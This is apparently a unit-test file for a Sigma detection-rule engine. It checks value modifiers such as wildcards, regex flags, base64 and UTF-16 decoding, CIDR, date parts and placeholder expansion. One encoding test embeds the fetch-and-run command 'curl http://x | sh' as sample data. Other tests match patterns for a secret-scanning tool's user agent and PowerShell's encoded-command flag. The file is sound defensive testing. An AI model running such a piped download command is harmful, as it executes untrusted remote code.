/** Every Sigma 2.1 value modifier, on records built here. */
import { errorsOf, ruleOf } from './helpers';

const m = (detection: string, record: Record<string, unknown>, options?: Parameters<typeof ruleOf>[1]) =>
  ruleOf(`selection:\n${detection.replace(/^/gm, '  ')}\ncondition: selection`, options).match(record);

describe('string matching', () => {
  it('is case-insensitive by default and exact without wildcards', () => {
    expect(m('eventName: ConsoleLogin', { eventName: 'consolelogin' })).toBe(true);
    expect(m('eventName: ConsoleLogin', { eventName: 'ConsoleLoginX' })).toBe(false);
  });
  it('handles * and ? wildcards and backslash escapes', () => {
    expect(m("eventName: 'Get*Data'", { eventName: 'GetPasswordData' })).toBe(true);
    expect(m("eventName: 'Get?'", { eventName: 'GetX' })).toBe(true);
    expect(m("eventName: 'Get?'", { eventName: 'GetXY' })).toBe(false);
    expect(m("a: 'x\\*y'", { a: 'x*y' })).toBe(true);
    expect(m("a: 'x\\*y'", { a: 'xzzy' })).toBe(false);
    expect(m("a: 'x\\?'", { a: 'x?' })).toBe(true);
    expect(m("a: 'x\\?'", { a: 'xa' })).toBe(false);
    expect(m("a: 'c:\\\\*'", { a: 'c:\\anything' })).toBe(true); // \\* = backslash then wildcard
    expect(m("a: 'c:\\windows'", { a: 'c:\\windows' })).toBe(true); // lone backslash is literal
    expect(m("a: 'a\\\\\\*'", { a: 'a\\*' })).toBe(true); // \\\* = backslash and literal star
    expect(m("a: '*a*b*c*'", { a: 'xxaxxbxxcxx' })).toBe(true);
    expect(m("a: '*a*b*c*'", { a: 'xxaxxcxxbxx' })).toBe(false);
  });
  it('contains, startswith, endswith', () => {
    expect(m("userAgent|contains: 'trufflehog'", { userAgent: 'TruffleHog/3' })).toBe(true);
    expect(m("userAgent|startswith: 'aws-cli'", { userAgent: 'AWS-CLI/2.0' })).toBe(true);
    expect(m("userAgent|startswith: 'aws-cli'", { userAgent: 'x aws-cli' })).toBe(false);
    expect(m("userAgent|endswith: '.exe'", { userAgent: 'a.EXE' })).toBe(true);
    expect(m("userAgent|endswith: '.exe'", { userAgent: 'a.exe ' })).toBe(false);
  });
  it('all requires every value', () => {
    const d = 'a|contains|all:\n  - foo\n  - bar';
    expect(m(d, { a: 'foo and bar' })).toBe(true);
    expect(m(d, { a: 'foo only' })).toBe(false);
  });
  it('cased makes it case-sensitive', () => {
    expect(m('a|cased: Foo', { a: 'Foo' })).toBe(true);
    expect(m('a|cased: Foo', { a: 'foo' })).toBe(false);
    expect(m('a|contains|cased: Foo', { a: 'xfoo' })).toBe(false);
  });
  it('exists tests presence', () => {
    expect(m('errorCode|exists: true', { errorCode: null })).toBe(true);
    expect(m('errorCode|exists: true', {})).toBe(false);
    expect(m('errorCode|exists: false', {})).toBe(true);
    expect(errorsOf('selection:\n  a|exists: maybe\ncondition: selection')[0]).toContain(
      "'exists' expects true or false",
    );
  });
  it('neq negates the item', () => {
    expect(m('a|neq: x', { a: 'y' })).toBe(true);
    expect(m('a|neq: x', { a: 'X' })).toBe(false);
    expect(m('a|neq:\n  - x\n  - y', { a: 'y' })).toBe(false);
    expect(m('a|neq:\n  - x\n  - y', { a: 'z' })).toBe(true);
  });
  it('windash matches every dash variant', () => {
    expect(m("a|windash|contains: ' -enc '", { a: 'ps /enc x' })).toBe(true);
    expect(m("a|windash|contains: ' -enc '", { a: 'ps \u2013enc x' })).toBe(true);
    expect(m("a|windash|contains: ' -enc '", { a: 'ps +enc x' })).toBe(false);
  });
});

describe('regular expressions', () => {
  it('are unanchored searches, case-sensitive unless i', () => {
    expect(m("arn|re: ':assumed-role/aws:'", { arn: 'arn:aws:sts::1:assumed-role/aws:x' })).toBe(true);
    expect(m("arn|re: 'ROLE'", { arn: 'role' })).toBe(false);
    expect(m("arn|re|i: 'ROLE'", { arn: 'role' })).toBe(true);
  });
  it('m and s flags', () => {
    expect(m("a|re: '^b$'", { a: 'a\nb' })).toBe(false);
    expect(m("a|re|m: '^b$'", { a: 'a\nb' })).toBe(true);
    expect(m("a|re: 'a.b'", { a: 'a\nb' })).toBe(false);
    expect(m("a|re|s: 'a.b'", { a: 'a\nb' })).toBe(true);
  });
  it('rejects invalid patterns and constructs a linear-time engine cannot run', () => {
    expect(errorsOf("selection:\n  a|re: '(a)\\1'\ncondition: selection")[0]).toMatch(
      /uses a backreference `\\1`/,
    );
    // Nested repetition is linear on RE2: accepted.
    expect(errorsOf("selection:\n  a|re: '(a+)+$'\ncondition: selection")).toEqual([]);
    expect(errorsOf("selection:\n  a|re: '(unclosed'\ncondition: selection")[0]).toMatch(
      /invalid regular expression/,
    );
    expect(errorsOf("selection:\n  a|i: 'x'\ncondition: selection")[0]).toMatch(/sub-modifier of 're'/);
  });
  it('caps the input length', () => {
    const long = 'a'.repeat(70 * 1024) + 'NEEDLE';
    expect(m("a|re: 'NEEDLE'", { a: long })).toBe(false);
    expect(m("a|re: 'NEEDLE'", { a: 'xNEEDLE' })).toBe(true);
  });
});

describe('encodings', () => {
  it('base64', () => {
    expect(m("a|base64: 'secret'", { a: Buffer.from('secret').toString('base64') })).toBe(true);
    expect(m("a|base64|contains: 'secret'", { a: `xx${Buffer.from('secret').toString('base64')}` })).toBe(
      true,
    );
  });
  it('base64offset finds the value at any byte offset', () => {
    for (const prefix of ['', 'a', 'ab', 'abc']) {
      const encoded = Buffer.from(`${prefix}curl http://x | sh`).toString('base64');
      expect(m("a|base64offset|contains: 'http://x'", { a: encoded })).toBe(true);
    }
    expect(
      m("a|base64offset|contains: 'http://x'", { a: Buffer.from('nothing here').toString('base64') }),
    ).toBe(false);
  });
  it('utf16le / wide / utf16be / utf16 with base64', () => {
    const le = Buffer.from('cmd', 'utf16le').toString('base64');
    expect(m("a|utf16le|base64: 'cmd'", { a: le })).toBe(true);
    expect(m("a|wide|base64: 'cmd'", { a: le })).toBe(true);
    const be = Buffer.from('cmd', 'utf16le').swap16().toString('base64');
    expect(m("a|utf16be|base64: 'cmd'", { a: be })).toBe(true);
    const bom = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('cmd', 'utf16le')]).toString('base64');
    expect(m("a|utf16|base64: 'cmd'", { a: bom })).toBe(true);
    expect(m("a|utf16le: 'cmd'", { a: 'c\u0000m\u0000d\u0000' })).toBe(true);
  });
  it('rejects wildcards in encoded values', () => {
    expect(errorsOf("selection:\n  a|base64: 'x*'\ncondition: selection")[0]).toMatch(
      /wildcards cannot be combined with 'base64'/,
    );
  });
});

describe('numbers and dates', () => {
  it('lt, lte, gt, gte on numbers and numeric text', () => {
    expect(m('n|gt: 5', { n: 6 })).toBe(true);
    expect(m('n|gt: 5', { n: '6' })).toBe(true);
    expect(m('n|gt: 5', { n: 5 })).toBe(false);
    expect(m('n|gte: 5', { n: 5 })).toBe(true);
    expect(m('n|lt: 5', { n: 4.5 })).toBe(true);
    expect(m('n|lte: 5', { n: 6 })).toBe(false);
    expect(m('n|lt: 5', { n: 'abc' })).toBe(false);
    expect(errorsOf('selection:\n  n|lt: many\ncondition: selection')[0]).toMatch(/'lt' expects a number/);
  });
  it('minute, hour, day, week, month, year on ISO timestamps (UTC)', () => {
    const rec = { eventTime: '2024-07-30T21:31:21Z' };
    expect(m('eventTime|minute: 31', rec)).toBe(true);
    expect(m('eventTime|hour: 21', rec)).toBe(true);
    expect(m('eventTime|hour: 20', rec)).toBe(false);
    expect(m('eventTime|day: 30', rec)).toBe(true);
    expect(m('eventTime|week: 31', rec)).toBe(true);
    expect(m('eventTime|month: 7', rec)).toBe(true);
    expect(m('eventTime|year: 2024', rec)).toBe(true);
    expect(m('eventTime|hour: 21', { eventTime: '2024-07-30T23:31:21+02:00' })).toBe(true);
    expect(m('eventTime|hour: 21', { eventTime: 'not a date' })).toBe(false);
    expect(errorsOf('selection:\n  eventTime|hour: 25\ncondition: selection')[0]).toMatch(/from 0 to 23/);
  });
});

describe('cidr', () => {
  it('matches IPv4 and IPv6 networks', () => {
    expect(m("sourceIPAddress|cidr: '10.0.0.0/8'", { sourceIPAddress: '10.1.2.3' })).toBe(true);
    expect(m("sourceIPAddress|cidr: '10.0.0.0/8'", { sourceIPAddress: '11.1.2.3' })).toBe(false);
    expect(m("sourceIPAddress|cidr: '2001:db8::/32'", { sourceIPAddress: '2001:db8::1' })).toBe(true);
    expect(m("sourceIPAddress|cidr: '2001:db8::/32'", { sourceIPAddress: '10.1.2.3' })).toBe(false);
    expect(m("sourceIPAddress|cidr: '10.0.0.0/8'", { sourceIPAddress: '::ffff:10.0.0.1' })).toBe(true);
    expect(m("sourceIPAddress|cidr: '10.0.0.0/8'", { sourceIPAddress: 'ec2.amazonaws.com' })).toBe(false);
    expect(errorsOf("selection:\n  a|cidr: 'nonsense'\ncondition: selection")[0]).toMatch(
      /'cidr' expects a network/,
    );
  });
});

describe('fieldref', () => {
  it('compares with another field, alone and with contains/startswith/endswith', () => {
    expect(m('a|fieldref: b', { a: 'X', b: 'x' })).toBe(true);
    expect(m('a|fieldref: b', { a: 'x', b: 'y' })).toBe(false);
    expect(m('a|fieldref: b', { a: 'x' })).toBe(false);
    expect(m('a|fieldref|contains: b', { a: 'xyz', b: 'y' })).toBe(true);
    expect(m('a|fieldref|startswith: b', { a: 'xyz', b: 'x' })).toBe(true);
    expect(m('a|fieldref|endswith: b', { a: 'xyz', b: 'x' })).toBe(false);
    expect(m('a|fieldref|neq: b', { a: 'x', b: 'y' })).toBe(true);
  });
});

describe('expand', () => {
  it('replaces placeholders from the load options', () => {
    const options = { placeholders: { admins: ['arn:aws:iam::1:role/Admin', 'arn:aws:iam::1:role/Ops*'] } };
    expect(
      m(
        "userIdentity.arn|expand: '%admins%'",
        { userIdentity: { arn: 'arn:aws:iam::1:role/OpsTeam' } },
        options,
      ),
    ).toBe(true);
    expect(
      m("userIdentity.arn|expand: '%admins%'", { userIdentity: { arn: 'arn:aws:iam::1:role/Dev' } }, options),
    ).toBe(false);
    expect(m("a|expand: '\\%plain%'", { a: '%plain%' }, options)).toBe(true);
  });
  it('makes the rule invalid when a placeholder is unresolved, naming it', () => {
    expect(errorsOf("selection:\n  a|expand: '%nobody%'\ncondition: selection")[0]).toContain(
      'unresolved placeholder %nobody%',
    );
  });
});

describe('modifier validation', () => {
  it('names unknown modifiers and rejects conflicting ones', () => {
    expect(errorsOf('selection:\n  a|contain: x\ncondition: selection')[0]).toBe(
      "detection.selection.a|contain => unknown modifier 'contain'",
    );
    expect(errorsOf('selection:\n  a|contains|startswith: x\ncondition: selection')[0]).toMatch(
      /cannot be combined/,
    );
    expect(errorsOf('selection:\n  a|re|cidr: x\ncondition: selection')[0]).toMatch(/cannot be combined/);
  });
});
